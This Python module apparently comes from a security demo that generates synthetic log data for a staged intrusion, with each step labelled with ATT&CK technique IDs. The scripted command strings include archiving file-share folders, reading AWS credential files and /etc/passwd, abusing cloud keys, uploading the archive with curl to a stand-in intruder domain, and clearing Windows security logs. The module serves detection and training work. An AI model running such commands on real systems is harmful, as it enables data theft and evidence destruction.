"""What the intruder came for: collection, the deployment server, the cloud, exfiltration, traces."""

from __future__ import annotations

from vedette.demo.attack.story import C2_IP, CLOUD_IP, Story
from vedette.demo.clock import MINUTE, SECOND
from vedette.demo.company import CloudUser, Host, Process, Session
from vedette.demo.formats import windows_events as ev
from vedette.demo.formats.identity import WEB_APPS
from vedette.demo.mail import LURE_DOMAIN
from vedette.demo.routines.agenda import POWERSHELL
from vedette.demo.routines.cloud import ssh_session
from vedette.demo.scene import SYSTEM32

_EXPORTS = "alderfinch-customer-exports"


_CLI = "aws-cli/1.22.34 Python/3.10.12 Linux/5.15.0-91-generic botocore/1.23.34"


def collect(story: Story, ws: Host, elevated: Process) -> tuple[Session, Process]:
    """Pack folders on the file server; return the remote desktop session and its PowerShell."""
    s, created, fs = story.scene, story.cast.created, story.scene.company.host("FS01")
    t = story.at(19, 5)
    with story.step(
        t,
        "The new account logged on to the file server by remote desktop from the victim's workstation",
        "T1021.001 T1078.002",
        fs,
        created.qualified,
        created.name,
    ):
        s.ticket(t - 2 * SECOND, created, ws.ip)
        port = s.port()
        s.connect(
            ws,
            t - SECOND,
            elevated,
            fs.ip,
            3389,
            service="ssl",
            seconds=9000.0,
            sent=700_000,
            received=9_000_000,
            source_port=port,
        )
        session = s.logon(fs, t, created, 10, ws, port=port, service="TERMSRV")
        s.windows.write(fs, t + 700, ev.K4672, ev.privileges_4672(fs, created, session.logon_id))
        s.begin_desktop(session, t + SECOND)
    t += 4 * MINUTE
    with story.step(
        t,
        "Finance and customer folders were packed into an archive",
        "T1560.001 T1005",
        fs,
        created.qualified,
        "C:\\PerfLogs\\queue.zip",
    ):
        folders = "D:\\Shares\\Finance\\2026,D:\\Shares\\Sales\\Customers"
        text = f"Compress-Archive -Path {folders} -DestinationPath C:\\PerfLogs\\queue.zip"
        ps = s.start(fs, t, POWERSHELL, f'"{POWERSHELL}"', session.desktop, session, level="High", terminal=2)
        s.script(fs, t + 9 * SECOND, text, created.sid)
        s.cmdlet(
            fs,
            t + 9 * SECOND + 90_000,
            session,
            f'"{POWERSHELL}"',
            "Compress-Archive",
            'CommandInvocation(Compress-Archive): "Compress-Archive"\r\n',
        )
        s.create_file(fs, t + 30 * SECOND, ps, "C:\\PerfLogs\\queue.zip")
    return session, ps


def enter_linux(story: Story, ws: Host) -> None:
    """Log on to the deployment server and read the cloud key there."""
    s, host, engineer = story.scene, story.scene.company.host("deploy01"), story.cast.engineer
    user, uid = engineer.account.name, 2000 + s.company.people.index(engineer)
    t = story.at(19, 31)
    with story.step(
        t,
        "Passwords were tried on the deployment server: first the helpdesk account's, then the note's",
        "T1110.001 T1021.004",
        host,
        user,
        f"Failed password for {user}",
    ):
        port = s.port()
        s.linux.syslog(host, t, "sshd", 4411, f"Invalid user {story.cast.helper.name} from {ws.ip} port {port}")
        s.linux.syslog(
            host,
            t + 2 * SECOND,
            "sshd",
            4411,
            f"Failed password for invalid user {story.cast.helper.name} from {ws.ip} port {port} ssh2",
        )
        ids = s.zeek.conn(
            t - SECOND, (ws.ip, port), (host.ip, 22), service="ssh", seconds=6.0, sent=1900, received=2400
        )
        s.zeek.ssh(t, ids, False, 1, "SSH-2.0-OpenSSH_for_Windows_8.6")
    t += 40 * SECOND
    keys = "/var/lib/runner/.aws/credentials"
    with story.step(
        t,
        f"{user} logged on with a password after three failures, and used sudo",
        "T1078.003 T1021.004 T1548.003",
        host,
        user,
        f"Accepted password for {user} from {ws.ip}",
    ):
        commands = (
            ["id"],
            ["uname", "-a"],
            ["cat", "/etc/passwd"],
            ["ls", "-la", "/var/lib/runner"],
            ["find", "/", "-name", "credentials", "-path", "*.aws*"],
        )
        cat = f"/usr/bin/cat {keys}"
        ssh = ssh_session(s, t, ws, host, user, uid, failures=3, key=False, commands=commands, sudo=cat, minutes=9)
    at = ssh.sudo_at + 3_000
    with story.step(at, "The deployment key file was read with sudo", "T1552.001", host, user, keys):
        s.linux.opened(
            host,
            at,
            keys,
            "/usr/bin/cat",
            ssh.who,
            pid=ssh.sudo_pid,
            ppid=ssh.sudo_pid - 1,
            key="cloud-keys",
            owner=998,
        )


def use_cloud_keys(story: Story) -> None:
    """Use the key from outside: look around, assume a role, make a key, read a bucket."""
    c, cloud = story.scene.cloud, story.scene.company.cloud
    ci, role, export = cloud["ci-deploy"], cloud["DeployRole"], cloud["reporting-export"]
    who = c.user(ci)
    t = story.at(20, 14)
    host = None
    with story.step(
        t,
        "The deployment key was used from an outside address to look around",
        "T1078.004 T1526 T1087.004 T1580",
        host,
        ci.name,
        CLOUD_IP,
    ):
        plan = (
            ("sts", "GetCallerIdentity", ""),
            ("s3", "ListBuckets", ""),
            ("iam", "ListUsers", ""),
            ("iam", "ListRoles", ""),
            ("iam", "ListAttachedUserPolicies", ""),
            ("secretsmanager", "ListSecrets", "AccessDenied"),
            ("ec2", "DescribeInstances", ""),
            ("cloudtrail", "DescribeTrails", "AccessDenied"),
        )
        for i, (service, call, error) in enumerate(plan):
            c.call(t + i * 11 * SECOND, who, f"{service}.amazonaws.com", call, CLOUD_IP, _CLI, error=error)
    t += 3 * MINUTE
    key, name = "ASIAQ7INTRUDEEXAMPLE", "upd-svc"
    with story.step(
        t,
        "The deployment role was assumed under a new session name",
        "T1550.001 T1078.004",
        host,
        f"assumed-role/DeployRole/{name}",
        name,
    ):
        c.call(
            t,
            who,
            "sts.amazonaws.com",
            "AssumeRole",
            CLOUD_IP,
            _CLI,
            request={"roleArn": role.arn, "roleSessionName": name, "durationSeconds": 43_200},
            response={
                "credentials": {"accessKeyId": key},
                "assumedRoleUser": {"arn": f"arn:aws:sts::111122223333:assumed-role/DeployRole/{name}"},
            },
            resources=[{"accountId": "111122223333", "type": "AWS::IAM::Role", "ARN": role.arn}],
        )
        session = c.role(role, name, key, t)
        for i, (service, call) in enumerate(
            (("sts", "GetCallerIdentity"), ("iam", "ListAccessKeys"), ("s3", "GetBucketPolicy"))
        ):
            c.call(t + (9 + 8 * i) * SECOND, session, f"{service}.amazonaws.com", call, CLOUD_IP, _CLI)
    t += 2 * MINUTE
    fresh = "AKIAFRESHKEYXEXAMPLE"
    with story.step(
        t,
        "An access key was created for another user, reporting-export",
        "T1098.001",
        host,
        f"assumed-role/DeployRole/{name}",
        fresh,
    ):
        c.call(
            t,
            session,
            "iam.amazonaws.com",
            "CreateAccessKey",
            CLOUD_IP,
            _CLI,
            request={"userName": export.name},
            response={"accessKey": {"userName": export.name, "accessKeyId": fresh, "status": "Active"}},
        )
    t = story.at(20, 31)
    _bulk(story, t, export, fresh, 240, "Customer exports were read in bulk with the new key")
    _bulk(story, story.at(26, 11), export, fresh, 60, "The same key came back in the night for the rest of the exports")


def _bulk(story: Story, t: int, user: CloudUser, key: str, n: int, what: str) -> None:
    s = story.scene
    who = s.cloud.user(user, key)
    with story.step(t, what, "T1530 T1619", None, user.name, key):
        s.cloud.call(
            t,
            who,
            "s3.amazonaws.com",
            "ListObjects",
            CLOUD_IP,
            _CLI,
            request={"bucketName": _EXPORTS, "prefix": "customers/"},
            data=True,
        )
        for i in range(n):
            size = 400_000 + (i * 7919) % 900_000
            s.cloud.get_object(
                t + (4 + i * 3) * SECOND, who, CLOUD_IP, _CLI, _EXPORTS, f"customers/2026/part-{i:04d}.csv.gz", size
            )


def exfiltrate(story: Story, night: Session, tool: Process) -> None:
    """Upload the archive to the intruder's server."""
    s, fs, created = story.scene, story.scene.company.host("FS01"), story.cast.created
    t = story.at(21, 8)
    with story.step(
        t, "The archive was uploaded to the intruder's server", "T1048.002 T1041", fs, created.qualified, C2_IP
    ):
        curl = f"{SYSTEM32}curl.exe"
        proc = s.start(
            fs,
            t,
            curl,
            f"curl.exe -s -T C:\\PerfLogs\\queue.zip https://cdn.{LURE_DOMAIN}/u/",
            tool,
            night,
            level="High",
            terminal=2,
        )
        s.resolve(fs, t + 40_000, proc, f"cdn.{LURE_DOMAIN}", C2_IP)
        ids = s.connect(
            fs, t + 90_000, proc, C2_IP, 443, service="ssl", seconds=611.0, sent=498_233_104, received=91_200
        )
        s.zeek.ssl(t + 130_000, ids, f"cdn.{LURE_DOMAIN}")
        port = int(ids.split("\t")[2])
        s.web.tls(t + 140_000, (fs.ip, port), (C2_IP, 443), f"cdn.{LURE_DOMAIN}")
        s.web.flow(t + 612 * SECOND, (fs.ip, port), (C2_IP, 443), 498_233_104, 91_200)
        s.end(fs, t + 612 * SECOND, proc)


def cover_tracks(story: Story, ws: Host, desk: Session, elevated: Process, night: Session, tool: Process) -> None:
    """Clear two security logs; try a last sign-in."""
    s, fs, created, victim = story.scene, story.scene.company.host("FS01"), story.cast.created, story.cast.victim
    wevtutil = f"{SYSTEM32}wevtutil.exe"
    t = story.at(21, 34)
    with story.step(
        t,
        "The security log of the file server was cleared",
        "T1070.001",
        fs,
        created.qualified,
        "wevtutil.exe cl Security",
    ):
        s.start(fs, t, wevtutil, "wevtutil.exe cl Security", tool, night, level="High", terminal=2)
        s.windows.write(fs, t + 300_000, ev.K1102, ev.cleared_1102(fs, created, night.logon_id))
    t = story.at(21, 39)
    with story.step(
        t,
        "The security log of the victim's workstation was cleared",
        "T1070.001",
        ws,
        victim.account.qualified,
        "wevtutil cl Security",
    ):
        s.start(ws, t, wevtutil, "wevtutil cl Security", elevated, desk, level="High", terminal=1)
        s.windows.write(ws, t + 300_000, ev.K1102, ev.cleared_1102(ws, victim.account, desk.logon_id))
    s.logoff(night, story.at(21, 41))
    t = story.at(22, 5)
    with story.step(
        t,
        "A sign-in to the victim's mailbox from the intruder's address was stopped by the second factor",
        "T1078.004",
        None,
        victim.account.upn,
        CLOUD_IP,
    ):
        s.identity.sign_in(t, victim, CLOUD_IP, WEB_APPS[0], place="away", error=50074)
